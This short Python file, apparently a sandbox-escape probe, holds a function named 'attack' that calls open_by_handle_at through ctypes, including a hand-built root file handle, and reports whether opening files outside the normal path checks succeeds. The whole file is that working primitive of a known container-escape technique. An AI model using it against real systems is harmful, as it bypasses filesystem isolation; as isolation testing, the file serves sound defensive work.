# what: open a file by its number, past every path

import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def attack():
    libc, handle, mount = ctypes.CDLL(None, use_errno=True), Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/usr", ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        return libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY) >= 0
    handle = Handle(8, 1)
    return libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY) >= 0
